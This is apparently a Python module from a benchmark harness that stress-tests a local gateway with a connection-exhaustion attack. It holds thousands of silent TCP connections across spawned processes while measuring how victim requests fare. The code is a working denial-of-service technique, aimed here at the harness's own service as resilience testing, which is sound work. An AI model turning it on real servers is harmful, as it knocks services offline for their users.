"""Attack 5b: ``--connections`` silent connections to the gateway, held in spawned processes
(each with its own file limit) while the victim, and a client from the attacker's own address,
keep sending requests."""

from __future__ import annotations

import asyncio
import logging
import math
import multiprocessing
import selectors
import socket
import time
from collections import Counter
from typing import Any
from urllib.parse import urlsplit

from common.http_server import raise_fd_limit
from common.processes import fd_limit, open_fds
from scripts.attacks.context import ATTACK_CAP_S, Ctx
from scripts.attacks.raw_http import ATTACKER_ADDRESS, CHAT, Answer, http_request
from scripts.attacks.victim import VICTIM_BODY, finished, overlapping, probe_stats

IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)  # Linux: port at connect
CONNECT_WAIT_S = 15.0  # covers SYN retransmits (1 s, 3 s, 7 s) when the accept queue is full
FD_RESERVE = 64
log = logging.getLogger("bench_attacks.connections")
CONNECT_BATCH = 500  # below the gateway's listen backlog (2048)


def server_side(sock: socket.socket) -> str:
    try:
        data = sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return "open_silent"
    except OSError:
        return "reset"
    return "answered" if data else "closed"


def hold_connections(host: str, port: int, count: int, server_pid: int, conn: Any) -> None:
    """In a spawned process (its own file limit): open ``count`` silent connections as fast as
    the server accepts them, report, hold them until told, report what the server did to them,
    close. Paced by batches: past a full accept queue the kernel completes connections that the
    server never sees (SYN cookies), which would hold no server file."""
    limit = raise_fd_limit(log)
    socks: list[socket.socket] = []
    error = None
    try:
        try:
            while len(socks) < count:
                batch = min(CONNECT_BATCH, count - len(socks))
                target = (open_fds(server_pid) or 0) + batch - 50  # 50: others' connections
                for _ in range(batch):
                    sock = socket.socket()
                    sock.setblocking(False)
                    sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                    sock.bind((ATTACKER_ADDRESS, 0))
                    sock.connect_ex((host, port))
                    socks.append(sock)
                wait_accepted(server_pid, target)
        except OSError as exc:
            error = f"{type(exc).__name__}: {exc}"
        established = await_connected(socks, CONNECT_WAIT_S)
        conn.send(
            {"opened": len(socks), "established": established, "limit": limit, "error": error}
        )
        if conn.poll(ATTACK_CAP_S):
            conn.recv()
        conn.send(dict(Counter(server_side(s) for s in socks)))
    finally:
        for sock in socks:
            sock.close()


def wait_accepted(pid: int, target: int, cap: float = 5.0, stall: float = 0.5) -> None:
    """Until the server holds ``target`` files, or has taken none more for ``stall`` s (its
    limit)."""
    t0 = time.monotonic()
    most, grew_at = open_fds(pid) or 0, t0
    while time.monotonic() < t0 + cap and most < target:
        time.sleep(0.02)
        fds = open_fds(pid) or 0
        if fds > most:
            most, grew_at = fds, time.monotonic()
        elif time.monotonic() - grew_at > stall:
            return


def await_connected(socks: list[socket.socket], timeout: float) -> int:
    established = 0
    with selectors.DefaultSelector() as selector:
        for sock in socks:
            selector.register(sock, selectors.EVENT_WRITE)
        pending = len(socks)
        deadline = time.monotonic() + timeout
        while pending and time.monotonic() < deadline:
            for key, _ in selector.select(max(0.0, deadline - time.monotonic())):
                selector.unregister(key.fileobj)
                pending -= 1
                established += key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
    return established


async def local_victim(ctx: Ctx, seconds: float) -> dict[str, Any]:
    """Victim requests from the attacker's own address, one after another."""
    answers: list[Answer] = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and len(answers) < 20:
        answers.append(await http_request(ctx.fleet.url, "POST", CHAT, VICTIM_BODY, timeout=5))
    return {"count": len(answers), "answers": dict(Counter(a.text() for a in answers))}


async def half_open(ctx: Ctx) -> dict[str, Any]:
    """--connections silent connections to the gateway, held --hold-s."""
    t0 = time.monotonic()
    total = ctx.args.connections
    per_process = raise_fd_limit(log) - FD_RESERVE
    holders = max(1, math.ceil(total / per_process))
    shares = [total // holders + (i < total % holders) for i in range(holders)]
    mp = multiprocessing.get_context("spawn")
    port = urlsplit(ctx.fleet.url).port
    gw = ctx.fleet.proc.pid
    procs, pipes, opened = [], [], []
    try:
        for share in shares:  # one after another: each paces itself on the gateway's files
            parent, child = mp.Pipe()
            args = ("127.0.0.1", port, share, gw, child)
            procs.append(mp.Process(target=hold_connections, args=args))
            procs[-1].start()
            pipes.append(parent)
            opened.append(await asyncio.to_thread(recv, parent, 180))
        t_held = time.monotonic()
        open_s = t_held - t0
        fds_at_hold = open_fds(gw)
        local = await local_victim(ctx, ctx.args.hold_s)
        await asyncio.sleep(max(0.0, t_held + ctx.args.hold_s - time.monotonic()))
        victim = probe_stats(
            await finished(overlapping(ctx.victim.chats, t_held, time.monotonic()))
        )
        fds_end = open_fds(gw)
        for pipe in pipes:
            pipe.send("close")
        fates = [await asyncio.to_thread(recv, p, 60) for p in pipes]
    finally:
        for proc in procs:
            proc.join(30)
            if proc.is_alive():
                proc.kill()
                proc.join(5)
    held: Counter[str] = Counter()
    for fate in fates:
        held.update(fate)
    figures = {
        "requested": total,
        "opened": sum(o["opened"] for o in opened),
        "established": sum(o["established"] for o in opened),
        "open_s": round(open_s, 1),
        "gateway_fd_limit": fd_limit(gw),
        "gateway_open_fds": max(filter(None, (fds_at_hold, fds_end)), default=None),
        "victim_ok_while_held": f"{victim['ok']}/{victim['count']}",
        "local_victim_ok": f"{local['answers'].get('200', 0)}/{local['count']}",
        "held_still_silent_open": held.get("open_silent", 0),
    }
    return {
        "holder_processes": opened,
        "gateway_open_fds": {"at_hold": fds_at_hold, "at_end": fds_end},
        "victim_while_held": victim,
        "victim_from_attacker_address_while_held": local,
        "connections_at_end": dict(held),
        "figures": figures,
    }


def recv(pipe: Any, timeout: float) -> Any:
    if not pipe.poll(timeout):
        raise TimeoutError(f"no report from a connection holder in {timeout} s")
    return pipe.recv()
